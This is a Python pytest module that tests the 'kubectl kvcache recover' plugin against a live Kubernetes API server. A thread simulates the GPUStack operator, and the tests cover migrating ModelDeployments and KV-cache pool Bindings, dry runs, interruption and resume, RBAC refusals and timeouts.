"""`kubectl kvcache recover --apply` against a real kube-apiserver, the test playing the operator.

The harness has no operator, so `Operator` (a thread) does what the GPUStack Operator would, on
one namespace: it reports the Setting's spec.value in status.value, keeps each Binding's
status (what the operator's pool reconciler writes on a served Binding: phase Ready with
DomainExclusive, QuotaObserved and QuotaGranted True, objects.binding_status; or the status a test
sets, e.g. a contested domain; usedBy: the ModelDeployments naming it) and its finalizer,
releasing the finalizer of a deleted Binding only once no deployment names it, and marks
ModelDeployments Available (unless the test holds one back: no spare capacity). It records when each deployment
appeared, became available and went, so the tests can check the order of what the plugin did.
"""

import io
import json
import os
import re
import signal
import subprocess
import sys
import threading
import time

import pytest

import objects
from kubectl_kvcache import cli
from kubectl_kvcache.operator.api import GROUP, VERSION

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
PLUGIN = os.path.join(REPO, "bin", "kubectl-kvcache")
API = f"/apis/{GROUP}/{VERSION}"
SETTING = "/apis/gpustack.ai/v1/namespaces/gpustack-system/settings/model-deployment-kv-cache-dtype-owned"
FINALIZER = "worker.gpustack.ai/binding-in-use"
MERGE = "application/merge-patch+json"


# -- the operator, played ---------------------------------------------------------------------

class Operator(threading.Thread):
    def __init__(self, cluster, ns):
        super().__init__(daemon=True)
        self.cluster, self.ns = cluster, ns
        self.hold = set()                   # deployments not made available (no capacity)
        self.status_of = {}                 # Binding name -> the status the operator reports instead of Ready
        self.hooks = []                     # callables run on every tick
        self.stopping = threading.Event()
        self.events = []                    # (monotonic time, event, name)
        self.errors = []
        self._seen = set()

    def __enter__(self):
        self.start()
        return self

    def __exit__(self, *exc):
        self.stopping.set()
        self.join(10)

    def run(self):
        while not self.stopping.is_set():
            try:
                self.tick()
            except Exception as exc:  # noqa: BLE001 - reported by the test
                self.errors.append(repr(exc))
            time.sleep(0.05)

    def req(self, method, path, body=None, content_type=None):
        return self.cluster.request(method, path, body, content_type=content_type)

    def when(self, event, name):
        return next((t for t, e, n in self.events if e == event and n == name), None)

    def tick(self):
        status, setting = self.req("GET", SETTING)
        if status == 200 and setting.get("spec", {}).get("value") != setting.get("status", {}).get("value"):
            self.req("PATCH", SETTING + "/status", {"status": {"value": setting["spec"]["value"]}}, MERGE)
        mds = self.req("GET", f"{API}/namespaces/{self.ns}/modeldeployments")[1]["items"]
        names = {m["metadata"]["name"] for m in mds}
        now = time.monotonic()
        for gone in self._seen - names:
            self.events.append((now, "gone", gone))
        for name in names - self._seen:
            self.events.append((now, "created", name))
        self._seen = names
        for m in mds:
            name = m["metadata"]["name"]
            if name in self.hold or available(m):
                continue
            gen = m["metadata"]["generation"]
            # what the operator writes once every role is ready (model_deployment.go: phase Ready,
            # ReplicasUpToDate True): objects.md_status
            self.req("PATCH", f"{API}/namespaces/{self.ns}/modeldeployments/{name}/status",
                     {"status": objects.md_status(m, objects.rollout_condition("UpToDate", generation=gen))["status"]},
                     MERGE)
            self.events.append((time.monotonic(), "available", name))
        for b in self.req("GET", f"{API}/namespaces/{self.ns}/kvcachepoolbindings")[1]["items"]:
            meta, name = b["metadata"], b["metadata"]["name"]
            users = sorted(m["metadata"]["name"] for m in mds
                           if ((m["spec"].get("kvCache") or {}).get("poolRef") or {}).get("name") == name)
            path = f"{API}/namespaces/{self.ns}/kvcachepoolbindings/{name}"
            finalizers = meta.get("finalizers") or []
            if meta.get("deletionTimestamp"):
                if not users and FINALIZER in finalizers:
                    self.req("PATCH", path, {"metadata": {"finalizers": [f for f in finalizers if f != FINALIZER],
                                                          "resourceVersion": meta["resourceVersion"]}}, MERGE)
                    self.events.append((time.monotonic(), "released", name))
            elif FINALIZER not in finalizers:
                self.req("PATCH", path, {"metadata": {"finalizers": finalizers + [FINALIZER],
                                                      "resourceVersion": meta["resourceVersion"]}}, MERGE)
            used_by = [{"kind": "ModelDeployment", "namespace": self.ns, "name": u} for u in users]
            st = b.get("status") or {}
            want = dict(self.status_of.get(name) or objects.binding_status(b["spec"]["domain"].get("name") or "default"),
                        usedBy=used_by)
            if any(st.get(k) != v for k, v in want.items()):
                self.req("PATCH", path + "/status", {"status": want}, MERGE)
        for hook in list(self.hooks):
            hook(self)


def available(md):
    gen = md["metadata"].get("generation")
    status = md.get("status") or {}
    return status.get("phase") == "Ready" and any(
        c.get("type") == "ReplicasUpToDate" and c.get("status") == "True" and c.get("observedGeneration") == gen
        for c in status.get("conditions") or ())


# -- the scene --------------------------------------------------------------------------------

def _setting(value="true"):
    return {"apiVersion": "gpustack.ai/v1", "kind": "Setting",
            "metadata": {"name": "model-deployment-kv-cache-dtype-owned", "namespace": "gpustack-system"},
            "spec": {"value": value},
            "status": {"value": value, "editable": True, "description": "owned", "sensitive": False}}


def _md(ns, name, binding, engine="sglang", version="0.5.18", extra=(), finalizers=()):
    meta = {"name": name, "namespace": ns, "labels": {"gpustack.ai/model": name},
            "annotations": {"team": "serving"}}
    if finalizers:
        meta["finalizers"] = list(finalizers)
    return {"apiVersion": f"{GROUP}/{VERSION}", "kind": "ModelDeployment", "metadata": meta,
            "spec": {"engine": {"name": engine, "version": version}, "kvCache": {"poolRef": {"name": binding}},
                     "model": {"name": f"org/{name}"},
                     "roles": [{"name": "server", "kind": "server", "replicas": 1, "size": 1, "instanceType": "gpu",
                                "extraArgs": ["--tp-size", "1", *extra]}]}}


def _binding(ns, name, pool, domain, dtype):
    return {"apiVersion": f"{GROUP}/{VERSION}", "kind": "KVCachePoolBinding",
            "metadata": {"name": name, "namespace": ns, "finalizers": [FINALIZER]},
            "spec": {"poolRef": {"name": pool}, "domain": {"name": domain, "blockSize": 64, "dtype": dtype},
                     "quotaCeiling": "256Gi"}}


def _pool(name, total="1Ti", ledger="Available"):
    """The Binding's pool, as the operator's Go types shape it (its own master, a tenant ledger)."""
    return {"apiVersion": f"{GROUP}/{VERSION}", "kind": "KVCachePool", "metadata": {"name": name},
            "spec": {"backends": [f"mooncake-{name}"], "quota": {"total": total}},
            "status": {"phase": "Ready", "clientEndpoint": f"mooncake-{name}-leader:50051",
                       "conditions": [{"type": "QuotaLedgerAvailable", "status": "True" if ledger == "Available"
                                       else "False", "reason": ledger, "message": "read from the master",
                                       "lastTransitionTime": "2026-01-01T00:00:00Z"}]}}


@pytest.fixture(scope="module")
def cluster(cluster_binaries):
    """A cluster of this module's own: recover's last step asks the gate, which judges every
    namespace, and the other modules leave errors in theirs on purpose."""
    import kvcache_test_harness as harness

    c = harness.Cluster(cluster_binaries, with_crds=True, name="kvcache-recover")
    c.start()
    try:
        yield c
    finally:
        c.stop()


def _clear(cluster, ns):
    """A test's leftovers go (a rejected Binding left behind would hold the next test's gate)."""
    for base, plural in ((API, "modeldeployments"), (API, "kvcachepoolbindings"), ("/apis/apps/v1", "deployments")):
        for o in cluster.request("GET", f"{base}/namespaces/{ns}/{plural}")[1].get("items", []):
            path = f"{base}/namespaces/{ns}/{plural}/{o['metadata']['name']}"
            cluster.request("PATCH", path, {"metadata": {"finalizers": None}}, content_type=MERGE)
            cluster.request("DELETE", path)


@pytest.fixture
def scene(cluster):
    made = []
    yield _scene(cluster, made)
    for ns in made:
        _clear(cluster, ns)


def _scene(cluster, made):
    """A namespace with Binding `sgl-fp8` (fp8: rejected by SGLang 0.5.18) on its own pool, two
    ModelDeployments naming it, an opted-in Deployment template, and the Setting on."""
    cluster.delete("settings.gpustack.ai", "model-deployment-kv-cache-dtype-owned", "-n", "gpustack-system")
    deadline = time.monotonic() + 10
    while cluster.request("GET", SETTING)[0] != 404:
        assert time.monotonic() < deadline
        time.sleep(0.05)
    cluster.apply(_setting())
    ns = cluster.new_namespace("recover")
    made.append(ns)
    pool = f"pool-{ns}"
    cluster.apply(_pool(pool))
    cluster.apply([_binding(ns, "sgl-fp8", pool, "sgl", "fp8"), _md(ns, "alpha", "sgl-fp8"),
                   _md(ns, "beta", "sgl-fp8"), _md(ns, "other", "elsewhere"),
                   {"apiVersion": "apps/v1", "kind": "Deployment",
                    "metadata": {"name": "batch", "namespace": ns},
                    "spec": {"selector": {"matchLabels": {"app": "batch"}},
                             "template": {"metadata": {"labels": {"app": "batch", "kvcache.gpustack.ai/inject": "true"},
                                                       "annotations": {"kvcache.gpustack.ai/binding": "sgl-fp8",
                                                                       "kvcache.gpustack.ai/engine": "SGLang"}},
                                          "spec": {"containers": [{"name": "main",
                                                                   "image": "lmsysorg/sglang:v0.5.18",
                                                                   "command": ["python3", "-m",
                                                                               "sglang.launch_server"]}]}}}}])
    return cluster, ns


def plugin(cluster, *args, kubeconfig=None, cwd=None, timeout=180):
    kc = kubeconfig or cluster.admin_kubeconfig
    return subprocess.run([sys.executable, PLUGIN, *args, "--kubeconfig", kc], stdin=subprocess.DEVNULL,
                          capture_output=True, text=True, timeout=timeout, env=cluster.env(kc), cwd=cwd)


def mds(cluster, ns):
    items = cluster.request("GET", f"{API}/namespaces/{ns}/modeldeployments")[1]["items"]
    return {m["metadata"]["name"]: m for m in items}


def release(cluster, ns, name):
    """The finalizer that holds ModelDeployment `name` dropped, and the object gone (within 10 s)."""
    cluster.request("PATCH", f"{API}/namespaces/{ns}/modeldeployments/{name}",
                    {"metadata": {"finalizers": None}}, content_type=MERGE)
    deadline = time.monotonic() + 10
    while name in mds(cluster, ns):
        assert time.monotonic() < deadline
        time.sleep(0.05)


def binding(cluster, ns, name):
    status, obj = cluster.request("GET", f"{API}/namespaces/{ns}/kvcachepoolbindings/{name}")
    return obj if status == 200 else None


def setting_value(cluster):
    return cluster.request("GET", SETTING)[1]["spec"]["value"]


def recovery_record(cluster, ns, binding="sgl-fp8"):
    status, cm = cluster.request("GET", f"/api/v1/namespaces/{ns}/configmaps/kvcache-recover-{binding}")
    if status != 200:
        return None
    data = cm.get("data") or {}
    backups = [json.loads(v) for k, v in data.items() if k.startswith("backup.")]
    return {"state": json.loads(data["recovery.json"]),
            "backups": {(b["kind"], b["metadata"]["name"]) for b in backups}, "objects": backups}


def one_error_line(stderr):
    lines = [x for x in stderr.strip().splitlines() if x.startswith("error:")]
    assert len(lines) == 1, stderr
    return lines[0]


def resume_argv(stderr):
    line = next(x for x in stderr.splitlines() if x.startswith("To continue: "))
    import shlex

    argv = shlex.split(line[len("To continue: "):])
    assert argv[:3] == ["kubectl", "kvcache", "recover"]
    # the resume command runs from any directory: its --backup-dir is absolute (issue 39 item 6)
    assert os.path.isabs(argv[argv.index("--backup-dir") + 1]), line
    return argv[2:]


# -- the whole recovery -----------------------------------------------------------------------

def test_side_by_side_whole_recovery(scene, tmp_path):
    cluster, ns = scene
    with Operator(cluster, ns) as op:
        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "60s", cwd=tmp_path)
        assert p.returncode == 0, p.stderr + p.stdout
    assert op.errors == []
    now = mds(cluster, ns)
    assert set(now) == {"alpha-fp8-e4m3", "beta-fp8-e4m3", "other"}
    for name in ("alpha", "beta"):
        new = now[f"{name}-fp8-e4m3"]
        assert new["spec"]["kvCache"]["poolRef"]["name"] == "sgl-fp8-e4m3"
        assert new["spec"]["roles"] == _md(ns, name, "x")["spec"]["roles"]
        assert new["metadata"]["labels"] == {"gpustack.ai/model": name}
        assert new["metadata"]["annotations"] == {"team": "serving"}
        # never deleted before its replacement was available
        assert op.when("available", f"{name}-fp8-e4m3") < op.when("gone", name)
    assert binding(cluster, ns, "sgl-fp8") is None
    assert op.when("released", "sgl-fp8") is not None
    new_binding = binding(cluster, ns, "sgl-fp8-e4m3")
    assert new_binding["spec"] == {"poolRef": {"name": f"pool-{ns}"}, "quotaCeiling": "256Gi",
                                   "domain": {"name": "sgl-fp8-e4m3", "blockSize": 64, "dtype": "fp8_e4m3"}}
    template = cluster.get("deployments.apps", "batch", namespace=ns)["spec"]["template"]
    assert template["metadata"]["annotations"]["kvcache.gpustack.ai/binding"] == "sgl-fp8-e4m3"
    assert setting_value(cluster) == "true"
    # every deleted or patched object is backed up, whole, in a new directory
    (backups,) = [d for d in os.listdir(tmp_path) if d.startswith(f"kvcache-recover-{ns}-sgl-fp8-")]
    files = sorted(os.listdir(tmp_path / backups))
    kinds = sorted({f.split(".")[0] for f in files})
    assert kinds == ["Deployment", "KVCachePoolBinding", "ModelDeployment", "Setting", "plan"]
    alpha = [f for f in files if f.startswith(f"ModelDeployment.{ns}.alpha.")]
    assert json.load(open(tmp_path / backups / alpha[0]))["spec"]["kvCache"]["poolRef"]["name"] == "sgl-fp8"
    # the run said what it did, step by step; a second run has nothing left but the plan is refused
    assert re.search(r"\[1/\d+\] Turn the Setting off.*: done", p.stdout)
    assert "Recovery finished" in p.stdout
    # the record in the cluster: finished, the Setting not left marked as turned off, the backups in it
    record = recovery_record(cluster, ns)
    assert record["state"]["finished"] is True and record["state"]["settingTurnedOff"] is False
    assert record["state"]["target"] == {"name": "sgl-fp8-e4m3", "domain": "sgl-fp8-e4m3", "dtype": "fp8_e4m3",
                                         "strategy": "side-by-side"}
    assert {("ModelDeployment", "alpha"), ("ModelDeployment", "beta"), ("KVCachePoolBinding", "sgl-fp8"),
            ("Deployment", "batch"), ("Setting", "model-deployment-kv-cache-dtype-owned")} <= record["backups"]
    assert f"kubectl get configmap kvcache-recover-sgl-fp8 -n {ns} -o yaml" in p.stdout
    # the same command again, from elsewhere: the record says it finished
    again = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", cwd="/")
    assert again.returncode == 0 and "finished; nothing to do" in again.stdout, again.stderr


def test_half_way_through_the_guides_manual_steps_recover_adopts_what_was_made(scene, tmp_path):
    """Issue 39 item 3: a new Binding and alpha's replacement made by hand (the guide's manual
    steps); recover then adopts both: no second deployment of alpha, no "Create" of what exists,
    beta moved beside them, the old objects deleted only once the adopted ones are available."""
    cluster, ns = scene
    pool = f"pool-{ns}"
    by_hand = _md(ns, "alpha-mine", "sgl-mine")
    by_hand["spec"] = _md(ns, "alpha", "sgl-mine")["spec"]
    cluster.apply([_binding(ns, "sgl-mine", pool, "sgl-mine", "fp8_e4m3"), by_hand])
    plan = plugin(cluster, "recover", "sgl-fp8", "-n", ns, cwd=tmp_path)
    assert plan.returncode == 0, plan.stderr
    assert "Adopt KVCachePoolBinding" in plan.stdout and "Adopt ModelDeployment" in plan.stdout
    assert f"Create KVCachePoolBinding {ns}/" not in plan.stdout and "alpha-fp8-e4m3" not in plan.stdout
    with Operator(cluster, ns) as op:
        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "60s", cwd=tmp_path)
        assert p.returncode == 0, p.stderr + p.stdout
    assert op.errors == []
    now = mds(cluster, ns)
    assert set(now) == {"alpha-mine", "beta-fp8-e4m3", "other"}, set(now)
    assert now["beta-fp8-e4m3"]["spec"]["kvCache"]["poolRef"]["name"] == "sgl-mine"
    assert op.when("available", "alpha-mine") < op.when("gone", "alpha")
    assert binding(cluster, ns, "sgl-fp8") is None and binding(cluster, ns, "sgl-mine") is not None
    assert "already done (it exists with the planned spec)" in p.stdout


def test_server_dry_run_changes_nothing_and_no_terminal_refuses(scene, tmp_path):
    cluster, ns = scene
    before = mds(cluster, ns)
    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--dry-run=server", cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    assert "Dry run (server)" in p.stdout and p.stdout.count(": accepted") >= 7
    # the last step is judged after step 1 turns the Setting off: not "already done" although spec.value is
    # "true" now
    last = [x for x in p.stdout.splitlines() if "Turn the Setting on" in x][-1]      # the dry run's line
    assert last.endswith(": accepted"), p.stdout
    assert f"  0. Record the recovery in ConfigMap {ns}/kvcache-recover-sgl-fp8: accepted" in p.stdout
    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", cwd=tmp_path)
    assert p.returncode == 2
    assert "standard input is not a terminal" in one_error_line(p.stderr)
    assert mds(cluster, ns).keys() == before.keys() and binding(cluster, ns, "sgl-fp8-e4m3") is None
    assert setting_value(cluster) == "true" and os.listdir(tmp_path) == []


def _sigint_default():
    """The plugin under test gets Ctrl-C as a terminal would deliver it, even when this test
    run was started in the background (where the shell leaves SIGINT ignored, and a child that
    starts with SIGINT ignored keeps it ignored, as kubectl would)."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def test_replace_interrupted_while_waiting_then_resumed_from_its_backup(scene, tmp_path):
    """replace: the old `alpha` is held by a finalizer; the run is interrupted (SIGINT) while it
    waits for it to go. Once it has gone, the printed command continues: it re-creates alpha
    from its backup, under the same name, and finishes."""
    cluster, ns = scene
    cluster.request("PATCH", f"{API}/namespaces/{ns}/modeldeployments/alpha",
                    {"metadata": {"finalizers": ["test.example/hold"]}}, content_type=MERGE)
    backups = tmp_path / "backups"
    with Operator(cluster, ns) as op:
        kc = cluster.admin_kubeconfig
        proc = subprocess.Popen([sys.executable, PLUGIN, "recover", "sgl-fp8", "-n", ns, "--strategy", "replace",
                                 "--apply", "--yes", "--backup-dir", str(backups), "--kubeconfig", kc],
                                stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                                env=cluster.env(kc), cwd=tmp_path, preexec_fn=_sigint_default)
        lines = []
        for line in proc.stdout:
            lines.append(line)
            if line.startswith("[") and "Delete ModelDeployment" in line and "/alpha " in line:
                break
        time.sleep(1.5)                         # now waiting for alpha to go
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=30)
        assert proc.returncode == 130, err
        assert "Stopped at step" in err and one_error_line(err) == "error: interrupted"
        assert "alpha" in mds(cluster, ns) and mds(cluster, ns)["alpha"]["metadata"].get("deletionTimestamp")
        # the finalizer goes: alpha is gone, only its backup knows it
        release(cluster, ns, "alpha")
        p = plugin(cluster, *resume_argv(err), "--yes", cwd=tmp_path)
        assert p.returncode == 0, err + p.stderr + p.stdout
        assert "already done" in p.stdout
    assert op.errors == []
    now = mds(cluster, ns)
    assert set(now) == {"alpha", "beta", "other"}
    assert {now[n]["spec"]["kvCache"]["poolRef"]["name"] for n in ("alpha", "beta")} == {"sgl-fp8-e4m3"}
    assert now["alpha"]["spec"]["roles"] == _md(ns, "alpha", "x")["spec"]["roles"]
    assert "finalizers" not in now["alpha"]["metadata"]
    assert binding(cluster, ns, "sgl-fp8") is None and setting_value(cluster) == "true"


def test_a_deployment_edited_meanwhile_is_not_deleted(scene, tmp_path):
    """Side-by-side: while the plugin waits for alpha's replacement, someone edits alpha. It is
    not deleted (its backup would be stale): conflict, exit 2, what was done and what is left."""
    cluster, ns = scene
    with Operator(cluster, ns) as op:
        op.hold.add("alpha-fp8-e4m3")

        def edit(op):
            if "alpha-fp8-e4m3" in op._seen:
                status, _ = op.req("PATCH", f"{API}/namespaces/{ns}/modeldeployments/alpha",
                                   {"spec": {"roles": [{"name": "server", "kind": "server", "replicas": 3,
                                                        "size": 1, "instanceType": "gpu"}]}}, MERGE)
                assert status == 200
                op.hooks.remove(edit)
                op.hold.clear()
        op.hooks.append(edit)
        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--backup-dir",
                   str(tmp_path / "b"), cwd=tmp_path)
    assert op.errors == []
    assert p.returncode == 2
    line = one_error_line(p.stderr)
    assert "conflict: ModelDeployment" in line and "/alpha changed since the plan was made" in line
    assert "Stopped at step" in p.stderr and "Done: 1, 2, 3, 4, 5, 6." in p.stderr
    now = mds(cluster, ns)
    assert now["alpha"]["spec"]["roles"][0]["replicas"] == 3 and "alpha-fp8-e4m3" in now
    assert "beta" in now and binding(cluster, ns, "sgl-fp8") is not None


def test_rbac_refusal_part_way_then_resumed(scene, tmp_path):
    """A user who may do everything the plan needs, until `delete` on modeldeployments is taken
    away after the first replacement is created: the run stops at that delete, nothing after it
    ran; with the right given back, the printed command finishes the recovery."""
    cluster, ns = scene
    kc = cluster.add_user(f"recoverer-{ns}")
    user = f"recoverer-{ns}"
    full = ["get", "list", "watch", "create", "patch", "delete", "update"]

    def role(verbs_md):
        return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
                "metadata": {"name": "recover", "namespace": ns},
                "rules": [{"apiGroups": ["worker.gpustack.ai"], "resources": ["modeldeployments"], "verbs": verbs_md},
                          {"apiGroups": ["worker.gpustack.ai"], "resources": ["kvcachepoolbindings"], "verbs": full},
                          {"apiGroups": ["apps"], "resources": ["deployments"], "verbs": full},
                          {"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get", "create", "patch"]},
                          {"apiGroups": ["apps", "batch"], "resources": ["*"], "verbs": ["list"]},
                          {"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list"]}]}
    cluster.apply([role(full),
                   {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
                    "metadata": {"name": "recover", "namespace": ns},
                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "recover"},
                    "subjects": [{"kind": "User", "name": user}]},
                   {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
                    "metadata": {"name": f"recover-{ns}", "namespace": "gpustack-system"},
                    "rules": [{"apiGroups": ["gpustack.ai"], "resources": ["settings"],
                               "verbs": ["get", "list", "patch"]}]},
                   {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
                    "metadata": {"name": f"recover-{ns}", "namespace": "gpustack-system"},
                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": f"recover-{ns}"},
                    "subjects": [{"kind": "User", "name": user}]}], with_status=False)
    with Operator(cluster, ns) as op:
        def revoke(op):
            if "alpha-fp8-e4m3" in op._seen:
                cluster.apply(role(["get", "list", "watch", "create", "patch"]), with_status=False)
                op.hooks.remove(revoke)
        op.hooks.append(revoke)
        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--backup-dir",
                   "b", kubeconfig=kc, cwd=tmp_path)
        assert p.returncode == 2, p.stderr + p.stdout
        line = one_error_line(p.stderr)
        assert line.startswith("error: forbidden: cannot delete modeldeployments.worker.gpustack.ai alpha"), line
        # the Bindings of other namespaces could not be listed: said, not hidden
        assert "could not be listed (RBAC)" in p.stderr
        now = mds(cluster, ns)
        assert {"alpha", "alpha-fp8-e4m3", "beta"} <= set(now) and "beta-fp8-e4m3" not in now
        assert setting_value(cluster) == "false"            # stopped part-way: off until it finishes
        cluster.apply(role(full), with_status=False)
        time.sleep(0.5)
        p = plugin(cluster, *resume_argv(p.stderr), "--yes", kubeconfig=kc, cwd=tmp_path)
        assert p.returncode == 0, p.stderr + p.stdout
    assert op.errors == []
    assert set(mds(cluster, ns)) == {"alpha-fp8-e4m3", "beta-fp8-e4m3", "other"}
    assert binding(cluster, ns, "sgl-fp8") is None and setting_value(cluster) == "true"


class Terminal(io.StringIO):
    """A stream that says it is a terminal (what the plugin sees when a person runs it)."""

    def isatty(self):
        return True


def in_process(cluster, *argv, stdin=""):
    out, err = Terminal(), Terminal()
    old = os.environ.get("KUBECONFIG")
    os.environ["KUBECONFIG"] = cluster.admin_kubeconfig
    try:
        code = cli.main(list(argv), stdin=Terminal(stdin), stdout=out, stderr=err)
    finally:
        if old is None:
            os.environ.pop("KUBECONFIG")
        else:
            os.environ["KUBECONFIG"] = old
    return code, out.getvalue(), err.getvalue()


def test_on_a_terminal_it_asks_once_and_shows_the_wait(scene, tmp_path):
    cluster, ns = scene
    backups = str(tmp_path / "b")
    code, out, err = in_process(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--backup-dir", backups,
                                stdin="n\n")
    assert code == 1 and err.count("Apply these 16 steps? [y/N] ") == 1 and "accepted every write in a dry run" in err
    assert err.strip().splitlines()[-1].endswith("Cancelled: nothing was changed.") and "error:" not in err
    assert setting_value(cluster) == "true" and not os.path.exists(backups)
    with Operator(cluster, ns) as op:
        op.hold.add("alpha-fp8-e4m3")
        started = []

        def release(op):        # capacity frees up after a few seconds
            if "alpha-fp8-e4m3" in op._seen:
                started.append(started[0] if started else time.monotonic())
                if time.monotonic() - started[0] > 2.5:
                    op.hold.clear()
                    op.hooks.remove(release)
        op.hooks.append(release)
        code, out, err = in_process(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--backup-dir", backups,
                                    stdin="y\n")
    assert code == 0, err
    assert re.search(rf"\r\x1b\[Kwaiting until ModelDeployment {ns}/alpha-fp8-e4m3 is available \([12]s of 600s\)", err)
    assert "Recovery finished: 16 steps done" in out
    # the window's next step is named: the replicas may still roll (issue 39 item 2)
    assert f"'kubectl kvcache verify -n {ns} --wait'" in " ".join(out.split())   # wrapped at 80 columns


def test_without_spare_capacity_it_times_out_and_deletes_nothing(scene, tmp_path):
    cluster, ns = scene
    with Operator(cluster, ns) as op:
        op.hold.add("alpha-fp8-e4m3")
        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "2s",
                   "--backup-dir", str(tmp_path / "b"), cwd=tmp_path)
    assert p.returncode == 2
    line = one_error_line(p.stderr)
    assert f"timed out after 2s waiting until ModelDeployment {ns}/alpha-fp8-e4m3 is available " \
           f"(phase not written yet)" in line, line
    assert f"waiting until ModelDeployment {ns}/alpha-fp8-e4m3 is available (up to 2s)" in p.stderr
    assert "Stopped at step 6 of 16. Done: 1, 2, 3, 4, 5. Left: 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16." in p.stderr
    # the state this run left the cluster in is said (issue 30 #4): step 1 turned the Setting off
    assert "The Setting is off: step 1 of this recovery turned it off" in p.stderr
    assert setting_value(cluster) == "false"
    assert {"alpha", "beta", "alpha-fp8-e4m3"} <= set(mds(cluster, ns))


def test_a_new_binding_whose_domain_is_contested_stops_the_wait_at_once(scene, tmp_path):
    # kv_cache_pool.go: a domain two Bindings claim on one master is managed for neither (phase
    # Error, DomainExclusive False, DomainClaimedByMultipleBindings); it stays so until one of them
    # is deleted, so the wait ends at once, naming the Binding and the operator's message.
    cluster, ns = scene
    with Operator(cluster, ns) as op:
        op.status_of["sgl-fp8-e4m3"] = objects.binding_status("sgl-fp8-e4m3", contested_by=["other-team/raced"])
        started = time.monotonic()
        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "120s",
                   "--backup-dir", str(tmp_path / "b"), cwd=tmp_path)
        took = time.monotonic() - started
    assert p.returncode == 2, p.stderr
    line = one_error_line(p.stderr)
    assert line.startswith(f"error: KVCachePoolBinding {ns}/sgl-fp8-e4m3 will not become ready: phase Error, "
                           f"condition DomainExclusive=False (DomainClaimedByMultipleBindings): reuse domain "
                           f'"sgl-fp8-e4m3" is also claimed by other-team/raced'), line
    assert "delete one of them" in line
    assert took < 60                        # not the 120 s timeout
    assert "Stopped at step 4 of 16. Done: 1, 2, 3. Left: 4," in p.stderr
    assert {"alpha", "beta"} <= set(mds(cluster, ns)) and not {"alpha-fp8-e4m3", "beta-fp8-e4m3"} & set(mds(cluster, ns))


def test_client_dry_run_lists_the_requests_and_sends_nothing(scene, tmp_path):
    cluster, ns = scene
    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--dry-run", "-o", "json", cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    assert json.loads(p.stdout)["kind"] == "RecoveryPlan"        # stdout stays data
    assert f"3. POST {API}/namespaces/{ns}/kvcachepoolbindings?fieldManager=kubectl-kvcache" in p.stderr
    assert f"0. POST /api/v1/namespaces/{ns}/configmaps?fieldManager=kubectl-kvcache (ConfigMap {ns}/kvcache-" \
           f"recover-sgl-fp8: the recovery's record" in p.stderr
    assert f"7. DELETE {API}/namespaces/{ns}/modeldeployments/alpha preconditions uid" in p.stderr
    assert binding(cluster, ns, "sgl-fp8-e4m3") is None and setting_value(cluster) == "true"
    assert os.listdir(tmp_path) == []


# -- interrupted after any step, resumed from a fresh directory --------------------------------

def end_state(cluster, ns):
    """What a recovery leaves, with the namespace taken out (it differs per test)."""
    record = recovery_record(cluster, ns)
    state = {
        "deployments": {n: (m["spec"]["kvCache"]["poolRef"]["name"], m["spec"]["roles"])
                        for n, m in mds(cluster, ns).items()},
        "bindings": {b["metadata"]["name"]: b["spec"] for b in cluster.request(
            "GET", f"{API}/namespaces/{ns}/kvcachepoolbindings")[1]["items"]},
        "template": cluster.get("deployments.apps", "batch", namespace=ns)["spec"]["template"]["metadata"]
        ["annotations"],
        "setting": setting_value(cluster),
        "record": record and {k: record["state"][k] for k in ("finished", "settingTurnedOff", "target")},
        "backups": record and sorted(record["backups"]),
    }
    return json.loads(json.dumps(state).replace(ns, "NS"))


class Interrupt:
    """Ctrl-C right after step K finished (the run never printed it done)."""

    def __init__(self, monkeypatch, after):
        from kubectl_kvcache.cli.flows import recover as flow

        self.after, self.ran = after, []
        execute = flow.Executor.execute

        def execute_then_stop(executor, n, step):
            outcome = execute(executor, n, step)
            self.ran.append(n)
            if n == self.after:
                raise KeyboardInterrupt
            return outcome
        monkeypatch.setattr(flow.Executor, "execute", execute_then_stop)
        monkeypatch.setattr(flow, "POLL_SECONDS", 0.05)


def _run_fresh(cluster, monkeypatch, tmp_path, label, argv):
    """One run in a directory of its own (another machine, as far as the plugin knows)."""
    where = tmp_path / label
    where.mkdir()
    monkeypatch.chdir(where)
    return in_process(cluster, *argv)


_UNINTERRUPTED = {}


def _variant(scene_, strategy, setting):
    cluster, ns = scene_
    if setting == "false":
        cluster.request("PATCH", SETTING, {"spec": {"value": "false"}}, content_type=MERGE)
        cluster.request("PATCH", SETTING + "/status", {"status": {"value": "false"}}, content_type=MERGE)
    return ["recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "60s"] + (
        ["--strategy", strategy] if strategy != "side-by-side" else [])


# (strategy, the Setting before, step K after which the first run is interrupted); K None: not interrupted.
# side-by-side with the Setting on has 16 steps: every one of them is an interruption point.
CASES = ([("side-by-side", "true", k) for k in range(1, 17)]
